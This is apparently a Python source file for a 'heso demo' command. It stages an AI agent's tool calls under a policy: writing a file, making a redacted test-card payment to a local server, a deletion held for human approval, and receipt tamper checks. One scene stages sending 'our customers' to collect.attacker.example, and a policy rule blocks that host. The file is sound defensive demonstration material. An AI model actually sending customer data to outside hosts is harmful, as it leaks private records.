"""`heso demo`: an agent's afternoon, on real effects: a file, a payment over HTTP, a request, a table.

Every step is checked as it happens; a step that does not go as told ends the demo with exit code 1.
"""

import argparse
import asyncio
import os
import shutil
import sqlite3
import sys
import tempfile
import threading
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import orjson

from heso.async_gate.context import step
from heso.async_gate.errors import BlockedError, SuspendedError
from heso.async_gate.tool import destructive, tool
from heso.cli.output import answer, fail, paint, say
from heso.core.audit import verify_audit_chain
from heso.core.collection import verify_collection
from heso.core.errors import HesoError
from heso.core.redaction import check_reveals, parse_sidecar
from heso.core.verify import verify_receipt
from heso.core.visible import visible
from heso.ports import Record
from heso.project import create_project
from heso.runtime import Runtime, init
from heso.settings import POLICY_FILE, read_passphrase, requires_passphrase
from heso.stores.reveals import RevealFolder
from heso.stores.sqlite.records import SqliteRecords
from heso.stores.sqlite.tickets import SqliteTickets

_CARD = "4242 4242 4242 4242"
_POLICY = """# The policy of `heso demo`.
[[rule]]
id = "files"
order = 10
verb = "tool_call"
decision = "allow"

[[rule]]
id = "small-payments"
order = 20
verb = "payment"
conditions = [{ field = "amount_usd", op = "lte", value = 100, display = "amount is at most $100" }]
redact = ["card.number"]
decision = "allow"

[[rule]]
id = "no-leaks"
order = 30
verb = "http_request"
scope = "*.attacker.example"
decision = "block"

[[rule]]
id = "deletions"
order = 40
verb = "delete"
decision = "require_approval"
sla_minutes = 60
"""


class DemoFailed(HesoError):
    """A step did not go as told. That is a bug; please report it."""


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "folder", nargs="?", metavar="DIR", help="where to play (default: a new temporary folder)"
    )


def run(options: argparse.Namespace) -> int:
    root = Path(options.folder or tempfile.mkdtemp(prefix="heso-demo-")).resolve()
    if root.exists() and any(root.iterdir()) and not _is_ours(root):
        return fail(f"{root} is not empty", "give a folder of its own: heso demo DIR")
    passphrase = read_passphrase(os.environ)
    if passphrase is None and requires_passphrase(os.environ):
        return fail("a passphrase is required here, and none is set", "set HESO_KEY_PASSPHRASE")
    root.mkdir(parents=True, exist_ok=True)
    (root / POLICY_FILE).write_text(_POLICY, "utf-8")
    create_project(root, passphrase)
    with (
        _payment_service() as service,
        init(root, workflow="demo-agent", account="acme", blocking=True) as runtime,
    ):
        _play(_Stage(root, runtime, service))
    _say_what_next(root)
    return 0


def _is_ours(root: Path) -> bool:
    """Whether an earlier demo made this folder; nobody else's files are ever touched."""
    policy = root / POLICY_FILE
    return policy.is_file() and policy.read_bytes() == _POLICY.encode()


@dataclass
class _Service:
    """A payment service on this machine. `bodies` are the requests it got."""

    url: str
    bodies: list[bytes] = field(default_factory=list)


@dataclass
class _Stage:
    root: Path
    runtime: Runtime
    service: _Service

    def newest(self) -> Record:
        with closing(SqliteRecords(self.runtime.settings.database)) as records:
            return records.newest(1)[0]

    def everything(self) -> list[Record]:
        with closing(SqliteRecords(self.runtime.settings.database)) as records:
            return list(records.read())


def _play(stage: _Stage) -> None:
    with step(session="afternoon"):
        for number, (title, scene) in enumerate(_SCENES, 1):
            answer(f"{paint(f'{number}. {title}', 'bold')}")
            scene(stage)
            answer()


def _allowed(stage: _Stage) -> None:
    @tool
    def write_report(name: str, text: str) -> Path:
        path = stage.root / name
        path.write_text(text, "utf-8")
        return path

    path = write_report("report.txt", "All quiet.")
    _expect(path.read_text("utf-8") == "All quiet.", "the file was written")
    _show("write_report('report.txt', ...) ran", stage.newest())


def _redacted(stage: _Stage) -> None:
    @tool(verb="payment")
    async def charge(amount_usd: int, card: dict[str, str]) -> int:
        return await asyncio.to_thread(
            _post, stage.service.url, {"amount": amount_usd, "card": card}
        )

    status = asyncio.run(charge(40, card={"number": _CARD, "name": "A. Lovelace"}))
    _expect(
        status == 201 and _CARD.encode() in stage.service.bodies[-1],
        "the service got the real card",
    )
    record = stage.newest()
    _expect(
        _CARD.encode() not in stage.runtime.settings.database.read_bytes(),
        "the ledger never saw it",
    )
    _show(
        "charge(40, card=...) ran; the service got the card, the receipt holds a commitment", record
    )
    content = orjson.loads(record.receipt)["content"]
    sidecar = RevealFolder(stage.root / ".heso" / "reveals").find(
        content["redaction"]["merkle_root"]
    )
    reveals = check_reveals(content, parse_sidecar(sidecar or b""))
    answer(
        f"   whoever has the sidecar can prove {reveals[0].field_path} = {reveals[0].value_json}"
    )


def _blocked(stage: _Stage) -> None:
    @tool(verb="http_request", target_host=lambda fields: str(fields["host"]))
    def send(host: str, body: str) -> int:
        return _post(stage.service.url, {"host": host, "body": body})

    before = len(stage.service.bodies)
    try:
        send("collect.attacker.example", "our customers")
    except BlockedError as error:
        answer(f"   {paint('BlockedError', 'red')} {visible(str(error))}")
    else:
        raise DemoFailed("a blocked action ran")
    _expect(len(stage.service.bodies) == before, "nothing was sent")
    _show("nothing was sent, and the refusal itself is signed", stage.newest())


def _suspended(stage: _Stage) -> None:
    database = stage.root / "customers.db"

    @destructive
    def delete_customers(older_than: int) -> int:
        with closing(sqlite3.connect(database)) as connection, connection:
            return connection.execute("DELETE FROM customer WHERE year < ?", (older_than,)).rowcount

    with closing(sqlite3.connect(database)) as connection, connection:
        connection.execute("DROP TABLE IF EXISTS customer")
        connection.execute("CREATE TABLE customer (name TEXT, year INTEGER)")
        connection.executemany("INSERT INTO customer VALUES (?, ?)", [("Ada", 2019), ("Bob", 2024)])
    try:
        delete_customers(older_than=2022)
    except SuspendedError as error:
        answer(f"   {paint('SuspendedError', 'yellow')} {visible(str(error))}")
        ticket = asyncio.run(SqliteTickets(stage.runtime.settings.database).find(error.action_hash))
    else:
        raise DemoFailed("an action that needs a person ran")
    with closing(sqlite3.connect(database)) as connection:
        (rows,) = connection.execute("SELECT count(*) FROM customer").fetchone()
    _expect(rows == 2 and ticket is not None, "both rows are there, and the request is on disk")
    _show(
        "nobody was deleted; the request waits on disk, for an hour, across restarts",
        stage.newest(),
    )


def _tampered(stage: _Stage) -> None:
    receipt = next(
        r.receipt for r in stage.everything() if b'"charge"' in r.receipt or b".charge" in r.receipt
    )
    forged = receipt.replace(b'"amount_usd":40', b'"amount_usd":4')
    verdict = verify_receipt(forged)
    _expect(forged != receipt and not verdict.is_valid, "the forgery shows")
    answer(
        f"   the payment's receipt, edited to say 4 instead of 40: {paint(str(verdict.kind), 'red')}"
    )


def _verified(stage: _Stage) -> None:
    records = stage.everything()
    sessions, standalone = verify_collection([record.receipt for record in records])
    audit = verify_audit_chain(record.audit_entry for record in records)
    valid = all(s.verdict.is_valid for s in sessions) and all(
        s.verdict.is_valid for s in standalone
    )
    _expect(valid and audit.is_valid, "every chain is whole")
    answer(
        f"   {len(records)} receipts in {len(sessions)} sessions, one audit chain: {paint('Valid', 'green')}"
    )


_SCENES: tuple[tuple[str, Callable[[_Stage], None]], ...] = (
    ("allowed: write a file", _allowed),
    ("redacted: pay $40 over HTTP, without the card on any receipt", _redacted),
    ("blocked: send data to attacker.example", _blocked),
    ("suspended: delete customers, which no policy lets pass without a person", _suspended),
    ("tampered: edit a receipt", _tampered),
    ("verified: everything above, offline", _verified),
)


def _show(what: str, record: Record) -> None:
    verdict = verify_receipt(record.receipt)
    _expect(verdict.is_valid, "the receipt verifies")
    answer(f"   {what}")
    answer(
        f"   receipt {(verdict.action_hash or '')[:16]}: {paint(f'{verdict.kind} {verdict.trust_level}', 'green')}"
    )


def _expect(is_so: bool, what: str) -> None:
    if not is_so:
        raise DemoFailed(f"this did not come true: {what}")


def _say_what_next(root: Path) -> None:
    heso = "heso" if shutil.which("heso") else str(Path(sys.executable).with_name("heso"))
    say("heso: try next:")
    say(f"  cd {visible(str(root))}")
    say(f"  {heso} log")
    say(f"  {heso} export -o receipts.jsonl && {heso} verify --chain receipts.jsonl")
    say(f"  {heso} policy check")
    action = '{"verb":"payment","tool_name":"charge","fields":{}}'
    say(f"  edit {POLICY_FILE}, then {heso} policy explain '{action}'")


def _post(url: str, body: object) -> int:
    request = urllib.request.Request(url, data=orjson.dumps(body), method="POST")  # noqa: S310  # our own server
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(request, timeout=10) as response:
        return int(response.status)


@contextmanager
def _payment_service() -> Iterator[_Service]:
    service = _Service("")

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # the name http.server calls
            service.bodies.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(201)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # http.server's name
            """Quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        service.url = f"http://127.0.0.1:{server.server_port}/charges"
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield service
        finally:
            server.shutdown()
            thread.join()
